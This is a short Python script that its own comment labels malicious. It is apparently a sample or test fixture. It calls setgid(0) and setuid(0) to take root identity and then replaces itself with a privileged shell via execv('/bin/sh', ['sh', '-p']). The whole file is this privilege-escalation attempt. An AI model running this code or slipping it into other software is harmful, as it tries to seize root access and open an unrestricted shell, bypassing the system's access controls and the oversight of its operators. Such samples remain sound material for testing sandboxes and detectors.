# Malicious: tries to become root with setuid(0)/setgid(0) and replace itself with a shell.
import os

os.setgid(0)
os.setuid(0)
os.execv("/bin/sh", ["sh", "-p"])
